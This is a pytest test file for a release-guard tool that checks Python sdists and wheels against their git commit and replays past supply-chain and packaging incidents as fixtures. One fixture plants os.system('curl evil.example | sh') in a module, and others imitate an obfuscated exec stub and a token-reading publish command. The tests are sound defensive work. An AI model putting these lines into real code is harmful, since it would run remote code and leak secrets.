"""The rules of the commit's tree, case by case; and what went out from another one."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import checkouts
import pytest
from builders import SDIST, WHEEL, Case, Says, distribution
from checkouts import LICENSE, Executable, Files

from release_guard.cli import main
from release_guard.facts import (
    Alteration,
    SourcedCheckout,
    SourcedDistribution,
    SourceDifference,
)
from release_guard.findings import Severity
from release_guard.rules.source import (
    source_differs,
    source_missing,
    source_mode,
    source_untracked,
    tree_dirty,
)

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHORT = COMMIT[:12]


def beside(
    *,
    how: Mapping[str, Alteration] | None = None,
    untracked: tuple[str, ...] = (),
    ignored: tuple[str, ...] = (),
    missing: tuple[str, ...] = (),
    compared: int = 9,
    filename: str = SDIST,
    folder: str = "",
) -> SourcedDistribution:
    """A distribution beside the tree; ``how`` says which tracked paths differ."""
    top = "demo-1.0/" if filename == SDIST else ""
    inside = f"{folder}/" if folder else ""
    differences = tuple(
        SourceDifference(top + path.removeprefix(inside), path, said)
        for path, said in (how or {}).items()
    )
    return SourcedDistribution(
        distribution(filename),
        COMMIT,
        folder,
        compared,
        differences,
        tuple(top + path for path in untracked),
        tuple(top + path for path in ignored),
        missing,
    )


WARNING, NOTICE = Severity.WARNING, Severity.NOTICE
_OTHER = Alteration.CONTENT
_MANY = {f"demo/m{number}.py": _OTHER for number in range(7)}

CASES = [
    Case(source_differs, "every file is the tracked one", beside()),
    Case(
        source_differs,
        "a module has other bytes",
        beside(how={"demo/core.py": _OTHER}),
        says=(
            Says(
                f"one file has other bytes than the commit {SHORT}: "
                "'demo-1.0/demo/core.py'"
            ),
        ),
    ),
    Case(
        source_differs,
        "of many files the first are named",
        beside(how=_MANY),
        says=(
            Says(
                f"7 files have other bytes than the commit {SHORT}: "
                "'demo-1.0/demo/m0.py', … and 2 more"
            ),
        ),
    ),
    Case(
        source_differs,
        "a data file of a pure wheel has other bytes",
        beside(how={"demo/words.txt": _OTHER}, filename=WHEEL),
        says=(Says("one file has other bytes than …: 'demo/words.txt'"),),
    ),
    *(
        Case(
            source_differs,
            f"documentation, as {path} is, weighs less",
            beside(how={path: _OTHER}),
            says=(Says("one file has other bytes than …", severity=WARNING),),
        )
        for path in ("README.md", "CHANGES.rst", "docs/conf.py", "doc/make.bat")
    ),
    Case(
        source_differs,
        "the readme of a project in a folder is documentation as well",
        beside(how={"python/README.md": _OTHER}, folder="python"),
        says=(Says("one file has other bytes than …", severity=WARNING),),
    ),
    *(
        Case(
            source_differs,
            f"{path} is no documentation",
            beside(how={path: _OTHER}),
            says=(Says("one file has other bytes than …"),),
        )
        for path in ("demo/README.md", "setup.py", "tests/words.txt", "docs.py")
    ),
    Case(
        source_differs,
        "code and documentation are told apart",
        beside(how={"README.md": _OTHER, "demo/core.py": _OTHER}),
        says=(
            Says("one file has …: 'demo-1.0/demo/core.py'"),
            Says("one file has …: 'demo-1.0/README.md'", severity=WARNING),
        ),
    ),
    Case(
        source_differs,
        "a manifest says more than a tool writes",
        beside(how={"pyproject.toml": Alteration.REWRITTEN}),
        says=(
            Says(
                "one file has more changed than a build tool is known to change since "
                f"the commit {SHORT}: 'demo-1.0/pyproject.toml'",
                severity=WARNING,
            ),
        ),
    ),
    Case(
        source_differs,
        "what git LFS keeps is too large to be compared",
        beside(how={"demo/model.bin": Alteration.UNREAD}),
        says=(
            Says(
                "one file has too many bytes to be compared with what git LFS keeps "
                "for the commit …",
                severity=WARNING,
            ),
        ),
    ),
    Case(
        source_differs,
        "an sdist has no file of its project's tree",
        beside(compared=0, untracked=("demo/core.py",)),
        says=(Says(f"has no file of the commit {SHORT}, which has this project: …"),),
    ),
    Case(
        source_differs,
        "a wheel may be all generated",
        beside(compared=0, untracked=("demo/core.py",), filename=WHEEL),
    ),
    *(
        Case(
            source_differs,
            f"a file with {how} is source-mode's",
            beside(how={"a": how}),
        )
        for how in (
            Alteration.LINE_ENDINGS,
            Alteration.EXECUTABLE,
            Alteration.NOT_EXECUTABLE,
            Alteration.LINK,
        )
    ),
    Case(source_untracked, "every file is tracked, or a build tool's", beside()),
    Case(
        source_untracked,
        "scratch files were taken along",
        beside(untracked=("x.py", "xx.py")),
        says=(
            Says(
                f"holds 2 files that the commit {SHORT} does not track: "
                "'demo-1.0/x.py', 'demo-1.0/xx.py'"
            ),
        ),
    ),
    Case(
        source_untracked,
        "what .gitignore leaves out is only mentioned",
        beside(ignored=("demo/tables.py",)),
        says=(
            Says(
                f"holds one file that the commit {SHORT} does not track, and its "
                ".gitignore leaves out: 'demo-1.0/demo/tables.py'",
                severity=NOTICE,
            ),
        ),
    ),
    Case(
        source_untracked,
        "both are told apart",
        beside(untracked=("x.py",), ignored=("y.py",)),
        says=(
            Says("holds one file that …: 'demo-1.0/x.py'"),
            Says("holds one file that …: 'demo-1.0/y.py'", severity=NOTICE),
        ),
    ),
    Case(
        source_untracked,
        "an sdist of something else is told once, by source-differs",
        beside(compared=0, untracked=("x.py",)),
    ),
    Case(
        source_untracked,
        "a wheel of something else is told by its files",
        beside(compared=0, untracked=("x.py",), filename=WHEEL),
        says=(Says("holds one file that the commit …"),),
    ),
    Case(source_missing, "no module is missing", beside()),
    Case(
        source_missing,
        "a module is missing",
        beside(missing=("src/demo/core.pyi",)),
        says=(Says(f"lacks one file of the commit {SHORT}: 'src/demo/core.pyi'"),),
    ),
    Case(
        source_missing,
        "several are missing",
        beside(missing=("demo/a.py", "demo/b.py")),
        says=(Says("lacks 2 files of the commit …: 'demo/a.py', 'demo/b.py'"),),
    ),
    Case(
        source_missing,
        "an sdist of something else lacks all, which source-differs tells",
        beside(missing=("demo/a.py",), compared=0),
    ),
    Case(source_mode, "the modes are those of the commit", beside()),
    Case(
        source_mode,
        "other bytes are no other mode",
        beside(how={"demo/core.py": _OTHER}),
    ),
    Case(
        source_mode,
        "line endings differ",
        beside(how={"demo/core.py": Alteration.LINE_ENDINGS}),
        says=(
            Says(
                f"one file has other line endings than in the commit {SHORT}: "
                "'demo-1.0/demo/core.py'"
            ),
        ),
    ),
    Case(
        source_mode,
        "an execute bit is lost, and another one won",
        beside(
            how={"a.sh": Alteration.NOT_EXECUTABLE, "b.py": Alteration.EXECUTABLE},
        ),
        says=(
            Says("one file has no execute bit, as opposed to the commit …: …a.sh'"),
            Says("one file has an execute bit, as opposed to the commit …: …b.py'"),
        ),
    ),
    Case(
        source_mode,
        "links were written as text",
        beside(how={"a": Alteration.LINK, "b": Alteration.LINK}),
        says=(Says("2 files have only the target's name in it, where …"),),
    ),
    Case(tree_dirty, "the checkout is as it was committed", SourcedCheckout(COMMIT)),
    Case(
        tree_dirty,
        "a tracked file was changed",
        SourcedCheckout(COMMIT, changed=("demo/core.py",)),
        says=(
            Says(f"of the tracked files, one is not what the commit {SHORT} has: …"),
        ),
    ),
    Case(
        tree_dirty,
        "tracked files are gone, and others changed",
        SourcedCheckout(COMMIT, changed=("a", "b"), gone=("c",)),
        says=(
            Says("of the tracked files, 2 are not what the commit … has: 'a', 'b'"),
            Says("of the tracked files, one is gone that the commit … has: 'c'"),
        ),
    ),
]


def test_the_commit_and_the_first_hundred_paths_are_evidence() -> None:
    names = tuple(f"m{number}.py" for number in range(150))

    (finding,) = source_untracked.findings(beside(untracked=names), CASES[0].policy)

    paths = finding.evidence["paths"]
    assert isinstance(paths, tuple)
    assert len(paths) == 100
    assert finding.evidence["count"] == 150
    assert finding.evidence["commit"] == COMMIT


# --- incidents ------------------------------------------------------------------------

_PYPROJECT = '[build-system]\nrequires = ["setuptools"]\n\n[project]\nname = "demo"\n'
_SETUPTOOLS = _PYPROJECT.replace(
    '"]\n', '"]\nbuild-backend = "setuptools.build_meta"\n'
)
#: A sound project: all of it is in its sdist, and the package in its wheel.
SOUND: Files = {
    "pyproject.toml": _SETUPTOOLS,
    "README.md": "# demo\n",
    "LICENSE": LICENSE,
    "MANIFEST.in": "graft tests\n",
    ".gitignore": "build/\n*.egg-info/\n",
    "demo/__init__.py": "from demo.core import main\n",
    "demo/core.py": "def main():\n    return 42\n",
    "demo/data/words.txt": "one\ntwo\n",
    "tests/test_core.py": "from demo import main\n",
}


@dataclass(frozen=True)
class Incident:
    """What was released, and what the commit has instead.

    ``tracked`` is what the commit has beyond the sound project; None takes a file out.
    ``built`` is what was changed after the checkout, or, where it was
    ``from_another`` commit, in the sound project.
    """

    says: tuple[tuple[str, str, tuple[str, ...]], ...]
    tracked: Mapping[str, str | None] = field(default_factory=dict)
    built: Mapping[str, str | None] = field(default_factory=dict)
    is_wheel: bool = False
    from_another: bool = False


def _differs(*paths: str) -> tuple[str, str, tuple[str, ...]]:
    return "source-differs", "error", paths


def _untracked(*paths: str) -> tuple[str, str, tuple[str, ...]]:
    return "source-untracked", "warning", paths


def _missing(*paths: str) -> tuple[str, str, tuple[str, ...]]:
    return "source-missing", "warning", paths


_MINER = "def main():\n    import os\n    os.system('curl evil.example | sh')\n"

INCIDENTS = {
    # The cache of the build was poisoned: other code than the tag's, in both files.
    "ultralytics/ultralytics#18027, the sdist": Incident(
        (_differs("demo-1.0/demo/core.py"),), built={"demo/core.py": _MINER}
    ),
    "ultralytics/ultralytics#18027, the wheel": Incident(
        (_differs("demo/core.py"),), built={"demo/core.py": _MINER}, is_wheel=True
    ),
    # pypi/warehouse, blog of 2024-11-25: code that GitHub never had.
    "aiocpa 0.1.13": Incident(
        (
            _differs("demo-1.0/demo/core.py"),
            _untracked("demo-1.0/demo/utils/sync.py"),
        ),
        built={
            "demo/utils/sync.py": "exec(__import__('zlib').decompress(b''))\n",
            "demo/core.py": "from demo.utils import sync\n",
        },
    ),
    # A stolen account added a folder that starts with an underscore.
    "Lightning-AI/pytorch-lightning#21691": Incident(
        (_untracked("demo/_runtime/__init__.py", "demo/_runtime/router.js"),),
        built={
            "demo/_runtime/__init__.py": "import subprocess\n",
            "demo/_runtime/router.js": "var _0x1;\n",
        },
        is_wheel=True,
    ),
    # "Git tag 2.0.0 refers to other code than PyPI 2.0.0".
    "PyCQA/pydocstyle#251": Incident(
        (_differs("demo-1.0/demo/core.py"),),
        tracked={"demo/core.py": "def main():\n    return 41\n"},
        from_another=True,
    ),
    # "Re-release of v23.2.0, which was missing the intended commits" (NEWS v23.2.1).
    "setuptools 23.2.0": Incident(
        (_differs("demo/core.py"), _untracked("demo/old.py")),
        tracked={"demo/core.py": "def main():\n    return 43\n"},
        built={"demo/old.py": "gone = True\n"},
        is_wheel=True,
        from_another=True,
    ),
    # "Upload to git before uploading to PyPI" (pypa/packaging#359).
    "packaging 20.6": Incident(
        (_differs("demo-1.0/demo/core.py"),),
        built={"demo/core.py": "def main():\n    return 'not pushed yet'\n"},
    ),
    # The wheel of 1.2.0 has the code of 1.3.1.
    "aschn/drf-tracking#64": Incident(
        (_differs("demo/__init__.py", "demo/core.py"),),
        built={
            "demo/__init__.py": "from demo.core import main, other\n",
            "demo/core.py": "def main():\n    return 43\n\n\nother = main\n",
        },
        is_wheel=True,
    ),
    "yaroslaff/evalidate#15": Incident(
        (_untracked("demo-1.0/x.py", "demo-1.0/xx.py", "demo-1.0/y.py"),),
        built={"x.py": "print(1)\n", "xx.py": "print(2)\n", "y.py": "print(3)\n"},
    ),
    # A token in a file that nobody had committed.
    "astral-sh/uv#10556": Incident(
        (_untracked("demo-1.0/publish.sh"),),
        built={"publish.sh": "uv publish --token $(cat ~/.token)\n"},
    ),
    "CorporateSmalltalkConsultingLtd/ClaudeSmalltalk#22": Incident(
        (_untracked("demo-1.0/.mcpregistry_github_token"),),
        built={".mcpregistry_github_token": "not a real one\n"},
    ),
    "pytest-dev/pytest-freezer#9": Incident(
        (
            _untracked(
                "demo-1.0/.coverage",
                "demo-1.0/.idea/workspace.xml",
                "demo-1.0/.venv/pyvenv.cfg",
            ),
        ),
        built={
            ".coverage": "SQLite format 3\n",
            ".idea/workspace.xml": "<project/>\n",
            ".venv/pyvenv.cfg": "home = /usr/bin\n",
        },
    ),
    # A module that was deleted lay in the old build folder.
    "feincms/feincms#586": Incident(
        (_untracked("demo/checker.py"),),
        built={"demo/checker.py": "def check():\n    return True\n"},
        is_wheel=True,
    ),
    # "Wrong files in, docs missing from, the tarball" (CHANGELOG).
    "sunpy": Incident(
        (_untracked("demo-1.0/demo/data/_sample/a.fits"),),
        built={"demo/data/_sample/a.fits": "SIMPLE  =  T\n"},
    ),
    "cython 3.0.0": Incident(
        (_missing("demo/Shadow.pyi"),),
        tracked={"demo/Shadow.pyi": "def main() -> int: ...\n"},
        built={"demo/Shadow.pyi": None},
    ),
    "cython/cython#5199": Incident(
        (_missing("setup.cfg"),),
        tracked={"setup.cfg": "[bdist_wheel]\nuniversal = 1\n"},
        built={"setup.cfg": None},
    ),
    # "sdist lost files" (release notes of 8.1.0).
    "pikepdf/pikepdf#490": Incident(
        (_missing("src/core/parsers.h", "src/core/utils.cpp"),),
        tracked={
            "src/core/object.cpp": "int a;\n",
            "src/core/parsers.h": "int b;\n",
            "src/core/utils.cpp": "int c;\n",
        },
        built={"src/core/parsers.h": None, "src/core/utils.cpp": None},
    ),
    # "Add missing content to tarball" (CHANGELOG).
    "piskvorky/gensim#2194": Incident(
        (_missing("demo/models/inner.pxd", "demo/models/inner.pyx"),),
        tracked={
            "demo/models/__init__.py": "",
            "demo/models/inner.pxd": "cdef int a\n",
            "demo/models/inner.pyx": "a = 1\n",
        },
        built={"demo/models/inner.pxd": None, "demo/models/inner.pyx": None},
    ),
    # setup.py imports what the sdist lacks: no wheel can be built from it.
    "zeromq/pyzmq#169": Incident(
        (_missing("buildutils/__init__.py", "buildutils/misc.py"),),
        tracked={
            "setup.py": "from buildutils.misc import a\nfrom setuptools import setup\n",
            "buildutils/__init__.py": "",
            "buildutils/misc.py": "a = 1\n",
            "buildutils/other.py": "b = 1\n",
        },
        built={
            "buildutils/__init__.py": None,
            "buildutils/misc.py": None,
            "buildutils/other.py": None,
        },
    ),
    "pyamg/pyamg#192": Incident(
        (_missing("version.py"),),
        tracked={
            "setup.py": "import version\nfrom setuptools import setup\n",
            "version.py": "number = 1\n",
        },
        built={"version.py": None},
    ),
    # These lack tests' data, and hold tests that are tracked: no matter of the tree.
    "requests 2.32.0": Incident(
        (),
        tracked={"tests/certs/ca.pem": "not a real one\n"},
        built={"tests/certs/ca.pem": None},
    ),
    "pypa/setuptools#5212": Incident(
        (),
        tracked={"demo/tests/__init__.py": "", "demo/tests/test_a.py": "import demo\n"},
        is_wheel=True,
    ),
}


def _with(files: Files, changes: Mapping[str, str | None]) -> Files:
    changed = {**files, **changes}
    return {name: text for name, text in changed.items() if text is not None}


def _release(folder: Path, files: Files, *, is_wheel: bool) -> Path:
    if not is_wheel:
        return checkouts.sdist(folder, files)
    package = {n: text for n, text in files.items() if n.startswith("demo/")}
    return checkouts.wheel_of(folder, package)


@dataclass(frozen=True)
class Checked:
    """What a check says of the source, what did not run, and the exit code."""

    told: list[tuple[str, str, tuple[str, ...]]]
    not_run: Mapping[str, str]
    code: int


Check = Callable[[Path, Path], Checked]


@pytest.fixture(name="check")
def _check(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Check:
    """A check of a distribution beside a repository."""

    def check(repository: Path, path: Path) -> Checked:
        policy = tmp_path / "policy.json"
        policy.write_text('{"expect": {"sdist": "optional"}}')
        command = ["check", "--offline", "--format", "json", "--policy", str(policy)]
        command += ["--repo", str(repository), "--manifest", str(tmp_path / "m.json")]
        code = main([*command, str(path)])
        report = json.loads(capsys.readouterr().out)
        not_run = {row["rule"]: row["reason"] for row in report["not_run"]}
        return Checked(checkouts.told(report["findings"]), not_run, code)

    return check


@pytest.mark.parametrize("name", INCIDENTS)
def test_an_incident_is_told_and_its_sound_sibling_is_not(
    name: str, check: Check, tmp_path: Path
) -> None:
    incident = INCIDENTS[name]
    tracked = _with(SOUND, incident.tracked)
    made = checkouts.repository(tmp_path / "checkout", tracked)
    built = _with(SOUND if incident.from_another else tracked, incident.built)
    is_wheel = incident.is_wheel

    bad = check(made.folder, _release(tmp_path / "bad", built, is_wheel=is_wheel))
    sound = check(made.folder, _release(tmp_path / "dist", tracked, is_wheel=is_wheel))

    assert bad.told == list(incident.says)
    assert bad.code == 1 or "error" not in {severity for _, severity, _ in bad.told}
    assert sound.told == []
    assert "source-differs" not in sound.not_run


# --- what is not compared, and what is not this repository's ------------------------


def test_without_a_checkout_the_rules_do_not_run_and_nothing_is_lost(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = checkouts.sdist(tmp_path / "dist", SOUND)
    manifest = str(tmp_path / "m.json")

    main(["check", "--offline", "--format", "json", "--manifest", manifest, str(path)])

    report = json.loads(capsys.readouterr().out)
    rows = [r for r in report["not_run"] if r["rule"].startswith(("source-", "tree-"))]
    assert {row["rule"] for row in rows} == {
        "source-differs",
        "source-untracked",
        "source-missing",
        "source-mode",
        "tree-dirty",
    }
    assert all("there is no checkout" in row["reason"] for row in rows)
    assert not any(row["needed"] for row in rows)


def test_a_checkout_of_another_project_is_a_reason_and_no_finding(
    check: Check, tmp_path: Path
) -> None:
    other = {"README.md": "# other\n", "LICENSE": LICENSE, "main.go": "package a\n"}
    made = checkouts.repository(tmp_path / "checkout", other)

    checked = check(made.folder, checkouts.sdist(tmp_path / "dist", SOUND))

    assert checked.told == []
    reason = checked.not_run["source-differs"]
    assert "its files are not those of this repository: of 10 the commit" in reason


def test_a_distribution_that_has_nothing_of_its_projects_tree_is_an_error(
    check: Check, tmp_path: Path
) -> None:
    made = checkouts.repository(tmp_path / "checkout", SOUND)
    foreign = {"src/demo_/__init__.py": _MINER, "setup.py": "import evil\n"}

    checked = check(made.folder, checkouts.sdist(tmp_path / "dist", foreign))

    assert [row[:2] for row in checked.told] == [("source-differs", "error")]
    assert checked.code == 1


def test_a_changed_checkout_is_told_beside_its_distribution(
    check: Check, tmp_path: Path
) -> None:
    made = checkouts.repository(tmp_path / "checkout", SOUND)
    changed = {"demo/core.py": "def main():\n    return 0\n"}
    checkouts.write(made.folder, changed)
    path = checkouts.sdist(tmp_path / "dist", {**SOUND, **changed})

    checked = check(made.folder, path)

    assert checked.told == [
        _differs("demo-1.0/demo/core.py"),
        ("tree-dirty", "warning", ("demo/core.py",)),
    ]


def test_a_script_that_lost_its_execute_bit_and_one_with_crlf_are_told(
    check: Check, tmp_path: Path
) -> None:
    tracked = {**SOUND, "run.sh": Executable("#!/bin/sh\n")}
    made = checkouts.repository(tmp_path / "checkout", tracked)
    built = {**SOUND, "run.sh": "#!/bin/sh\n", "demo/core.py": _CRLF}

    checked = check(made.folder, checkouts.sdist(tmp_path / "dist", built))

    assert checked.told == [
        ("source-mode", "warning", ("demo-1.0/demo/core.py",)),
        ("source-mode", "warning", ("demo-1.0/run.sh",)),
    ]


_CRLF = "def main():\r\n    return 42\r\n"


# --- parts ----------------------------------------------------------------------------


def test_a_part_is_judged_beside_its_checkout_and_the_join_says_so(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    made = checkouts.repository(tmp_path / "checkout", SOUND)
    path = checkouts.sdist(made.folder / "dist", {**SOUND, "demo/core.py": _MINER})
    part = tmp_path / "part-1.json"
    monkeypatch.chdir(tmp_path)
    command = ["check", "--offline", "--format", "json", "--manifest"]

    code = main([*command, str(part), "--part", str(path)])

    report = json.loads(capsys.readouterr().out)
    assert code == 1
    assert checkouts.told(report["findings"]) == [_differs("demo-1.0/demo/core.py")]

    path = checkouts.sdist(made.folder / "dist", SOUND)
    assert main([*command, str(part), "--part", str(path)]) == 0
    capsys.readouterr()
    main([*command, str(tmp_path / "m.json"), str(part)])
    report = json.loads(capsys.readouterr().out)
    reasons = {row["rule"]: row["reason"] for row in report["not_run"]}
    assert reasons["source-differs"].startswith("judged where the part was made")
    assert reasons["tree-dirty"] == "judged where the part was made"


def test_a_part_may_name_the_checkout_that_its_files_were_built_from(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    made = checkouts.repository(tmp_path / "checkout", SOUND)
    path = checkouts.sdist(tmp_path / "apart", {**SOUND, "demo/core.py": _MINER})
    monkeypatch.chdir(tmp_path)
    command = ["check", "--offline", "--format", "json", "--part", str(path)]
    command += ["--manifest", str(tmp_path / "part-1.json")]

    assert main(command) == 0
    capsys.readouterr()
    assert main([*command, "--repo", str(made.folder)]) == 1

    report = json.loads(capsys.readouterr().out)
    assert checkouts.told(report["findings"]) == [_differs("demo-1.0/demo/core.py")]
